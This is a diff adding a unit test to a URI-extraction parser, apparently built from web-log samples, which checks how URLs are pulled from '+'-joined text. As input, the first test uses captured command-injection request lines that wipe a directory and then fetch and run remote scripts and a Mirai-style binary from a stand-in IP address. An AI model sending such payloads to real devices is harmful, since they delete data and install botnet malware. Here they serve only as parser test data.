@@ -2696,3 +2696,32 @@ describe("a registered scheme and one plain word: a key:value field (word-scheme
     expectRecordsAtEverySplit("a session:abc b about:blank c tool:x.y d news:a.b\n");
   });
 });
+
+describe("found by session 16's log hunt", () => {
+  test("words joined by + before http: a command line in a query, not a scheme", () => {
+    expect(
+      uris(
+        "GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.66/jaws;sh+/tmp/jaws HTTP/1.1\n" +
+          "curl+-O+http://192.0.2.66/x.sh busybox+wget+https://a.example/bins/mirai.arm7\n",
+      ),
+    ).toEqual([
+      "http://192.0.2.66/jaws;sh+/tmp/jaws",
+      "http://192.0.2.66/x.sh",
+      "https://a.example/bins/mirai.arm7",
+    ]);
+    // a version-control system's transport, database drivers and registered compounds stay
+    expect(
+      uris(
+        "git+https://g.example/a svn+http://s.example/x HG+HTTPS://h.example/r " +
+          "mongodb+srv://c.example/db postgresql+psycopg2://u@h/db coap+tcp://h.example/x",
+      ),
+    ).toEqual([
+      "git+https://g.example/a",
+      "svn+http://s.example/x",
+      "HG+HTTPS://h.example/r",
+      "mongodb+srv://c.example/db",
+      "postgresql+psycopg2://u@h/db",
+      "coap+tcp://h.example/x",
+    ]);
+  });
+});
